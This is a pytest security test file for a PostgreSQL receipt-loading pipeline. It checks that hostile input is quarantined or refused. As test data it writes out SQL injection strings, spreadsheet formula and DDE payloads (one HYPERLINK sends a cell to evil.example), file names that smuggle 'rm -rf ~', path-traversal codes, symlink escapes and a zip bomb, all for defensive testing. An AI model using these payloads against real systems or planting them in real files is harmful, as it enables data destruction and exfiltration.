"""Hostile input against the real PostgreSQL: every case is stored as inert text or refused with a
recorded reason (raw.report_files 'rejected' + reason, a raw.quarantine row), never executed, never
read from outside the source root, never written outside the landing store.

Built on the hand-checked sample day of tests/test_pipeline.py (shared/samples, 9 receipts,
semicolon-separated, Vietnamese headers; receipts on lines 5..13).
"""

from __future__ import annotations

import io
import re
import shutil
import uuid
import zipfile
from datetime import date
from pathlib import Path

import psycopg
import pytest

from bhxh import landing, pipeline

from .conftest import SHARED

SAMPLES = SHARED / "samples" / "source"
pytestmark = pytest.mark.skipif(not SAMPLES.exists(), reason="shared/samples not beside the checkout")
DAY = date(2024, 5, 15)


@pytest.fixture
def source(tmp_path) -> Path:
    root = tmp_path / "source"
    shutil.copytree(SAMPLES / "30", root / "30")
    for path in root.rglob("*"):
        path.chmod(0o755 if path.is_dir() else 0o644)
    return root


@pytest.fixture
def report(source) -> Path:
    return source / "30" / DAY.isoformat() / "VNPOST.csv"


def _run(source: Path):
    collected = pipeline.collect(str(source), "30", DAY)
    return collected, pipeline.process_landed(DAY, DAY)


def _rows(url, sql, *args):
    with psycopg.connect(url) as conn:
        return conn.execute(sql, args).fetchall()


def _set_cell(path: Path, line: int, column: int, value: str) -> None:
    """Replace one cell (0-based column, 1-based line) of the semicolon-separated sample."""
    lines = path.read_text(encoding="utf-8-sig").split("\n")
    cells = lines[line - 1].split(";")
    cells[column] = value
    lines[line - 1] = ";".join(cells)
    path.write_text("\n".join(lines), encoding="utf-8-sig")


COLLECTION_POINT, RECEIPT_NO = 3, 1  # columns of the sample (STT first)


def test_sql_looking_text_is_stored_verbatim_and_inert(fresh_db, report):
    evil = "BD-288-01'); drop table raw.receipts; --"
    _set_cell(report, 5, COLLECTION_POINT, f'"{evil}"')  # quoted: the text holds the delimiter
    _, summary = _run(report.parents[2])
    assert (summary.rows_loaded, summary.rows_quarantined) == (9, 0)
    assert _rows(fresh_db, "select collection_point from raw.receipts where line_no = 5") == [(evil,)]
    assert _rows(fresh_db, "select to_regclass('raw.receipts') is not null")[0][0]


FORMULAS = {  # line -> receipt number as written in the file (the first one quoted, as CSV needs)
    5: '"=HYPERLINK(""http://evil.example/?q=""&A1,""Bấm vào đây"")"',
    6: "+cmd|' /C calc'!A0",
    7: "@SUM(1+1)*cmd|' /C calc'!A0",
    8: "-2+3+cmd|' /C calc'!A0",
    9: " =1+1",
}


def test_spreadsheet_formulas_quarantine_their_rows(fresh_db, report):
    for line, formula in FORMULAS.items():
        _set_cell(report, line, RECEIPT_NO, formula)
    _, summary = _run(report.parents[2])
    assert (summary.rows_loaded, summary.rows_quarantined) == (4, 5)
    rows = _rows(fresh_db, "select line_no, reasons, original from raw.quarantine order by line_no")
    assert [r[0] for r in rows] == sorted(FORMULAS)
    for line, reasons, original in rows:
        assert any("spreadsheet formula" in r for r in reasons), reasons
        assert not any(r.lstrip()[:1] in ("=", "+", "@", "-") for r in reasons)
        written = FORMULAS[line]
        sent = written[1:-1].replace('""', '"') if written.startswith('"') else written
        assert original["receipt_no"] == sent  # kept as sent, as jsonb text: inert
    assert _rows(fresh_db, "select count(*) from raw.receipts where receipt_no !~ '^[0-9]+$'") == [(0,)]


def test_negative_number_text_is_not_a_formula(fresh_db, report):
    _set_cell(report, 6, RECEIPT_NO, "-0012452")
    _, summary = _run(report.parents[2])
    assert (summary.rows_loaded, summary.rows_quarantined) == (9, 0)


CONTROLS = {5: "BD-288-01\x1b[2J\x1b[31m", 6: "BD-288-01\x07", 7: "10-882-DB\u202e", 8: "BD\x9b2J288"}


def test_control_characters_quarantine_their_rows(fresh_db, report):
    for line, text in CONTROLS.items():
        _set_cell(report, line, COLLECTION_POINT, text)
    _, summary = _run(report.parents[2])
    assert (summary.rows_loaded, summary.rows_quarantined) == (5, 4)
    rows = _rows(fresh_db, "select line_no, reasons, original from raw.quarantine order by line_no")
    assert [r[0] for r in rows] == sorted(CONTROLS)
    for line, reasons, original in rows:
        assert any("control characters" in r for r in reasons), reasons
        assert not any(re.search(r"[\x00-\x1f\x7f-\x9f\u202e]", r) for r in reasons)  # the reason is escaped
        assert original["collection_point"] == CONTROLS[line]  # the value itself only in jsonb


def test_province_path_traversal_is_refused(fresh_db, source):
    for province in ("../30", "30/../../etc", "..", "3\x00", "30\n", "\u0663\u0660"):  # the last: Arabic-Indic 30
        with pytest.raises(ValueError, match="province code"):
            pipeline.collect(str(source), province, DAY)
    assert _rows(fresh_db, "select count(*) from raw.report_files") == [(0,)]


def test_hostile_file_names_are_strays_never_landed(fresh_db, source, report):
    folder = report.parent
    names = ["..\\..\\VNPOST.csv", "VNPOST.csv;rm -rf ~", "VNPOST'; drop table raw.receipts; --.csv",
             "=HYPERLINK(1).csv", "VN\x1bPOST.csv", ".VNPOST.csv", "VNPOST.csv.exe", "VNPOST.csv\n",
             "\u212aVNPOST.csv"]  # the last: a Kelvin sign, which case-insensitive matching takes for K
    for name in names:
        (folder / name).write_bytes(report.read_bytes())
    collected, summary = _run(source)
    assert sorted(collected.strays) == sorted(f"30/{DAY.isoformat()}/{n}" for n in names)
    assert _rows(fresh_db, "select org_code, source_path from raw.report_files") == \
        [("VNPOST", f"30/{DAY.isoformat()}/VNPOST.csv")]
    assert summary.rows_loaded == 9


def _landing_objects() -> set[str]:
    from bhxh.settings import get_settings

    root = get_settings().landing_dir
    return {p.name for p in root.rglob("*") if p.is_file()} if root.exists() else set()


@pytest.mark.parametrize("linked", ["file", "folder"])
def test_symlink_in_local_source_is_refused_unread(fresh_db, source, report, tmp_path, linked):
    outside = tmp_path / "outside"
    outside.mkdir()
    secret = outside / "VNPOST.csv"  # a readable report outside the root: must not be read through a link
    secret.write_bytes(report.read_bytes().replace(b"0012451", b"0099999"))
    if linked == "file":
        report.unlink()
        report.symlink_to(secret)
    else:
        shutil.rmtree(report.parent)
        report.parent.symlink_to(outside, target_is_directory=True)
    collected, summary = _run(source)
    assert len(collected.refused) == 1 and "symbolic link" in collected.refused[0]
    (status, reason, digest), = _rows(fresh_db, "select status, reason, sha256 from raw.report_files")
    assert status == "rejected" and "symbolic link (not followed)" in reason and digest.startswith("refused:")
    (line, reasons), = _rows(fresh_db, "select line_no, reasons from raw.quarantine")
    assert line == 0 and reasons == [reason]
    assert landing.sha256(secret.read_bytes()) not in _landing_objects()
    assert summary.files == 0 and _rows(fresh_db, "select count(*) from raw.receipts") == [(0,)]


def test_oversized_file_is_refused_unread(fresh_db, source, report, monkeypatch):
    # a title line of its own, so that no earlier test has landed these bytes
    report.write_bytes(report.read_bytes().replace(b"\n", f" {uuid.uuid4().hex}\n".encode(), 1))
    size = report.stat().st_size
    monkeypatch.setenv("BHXH_MAX_REPORT_BYTES", str(size - 1))
    collected, _ = _run(source)
    (status, reason, recorded), = _rows(fresh_db, "select status, reason, bytes from raw.report_files")
    assert status == "rejected" and recorded == size
    assert f"{size} bytes exceeds the limit of {size - 1} bytes" in reason
    assert landing.sha256(report.read_bytes()) not in _landing_objects()
    # one byte more is allowed: the same file loads
    monkeypatch.setenv("BHXH_MAX_REPORT_BYTES", str(size))
    (report.parent / "VNPOST.v2.csv").write_bytes(report.read_bytes())
    _, summary = _run(source)
    assert summary.rows_loaded == 9


def test_xlsx_decompression_bomb_is_rejected(fresh_db, report):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/worksheets/sheet1.xml", b" " * (8 * 2**20))  # 8 MiB of spaces, about 8 KiB packed
    bomb = report.with_suffix(".xlsx")
    report.unlink()
    bomb.write_bytes(buffer.getvalue())
    _, summary = _run(report.parents[2])
    assert summary.rejected_files == 1
    (status, reason), = _rows(fresh_db, "select status, reason from raw.report_files")
    assert status == "rejected" and "zip bomb" in reason
    assert _rows(fresh_db, "select line_no from raw.quarantine") == [(0,)]
    assert _rows(fresh_db, "select check_name, success from raw.dq_results") == [("read_report", False)]


def test_landing_store_holds_only_content_addressed_objects(fresh_db, source):
    _run(source)
    from bhxh.settings import get_settings

    root = get_settings().landing_dir
    for path in root.rglob("*"):
        relative = path.relative_to(root).parts
        assert relative[0] == "objects", path
        if path.is_file():
            assert len(relative) == 3 and re.fullmatch(r"[0-9a-f]{64}", relative[2]) and relative[1] == relative[2][:2]
            assert path.stat().st_mode & 0o077 == 0  # 0600: only the pipeline reads the clear files
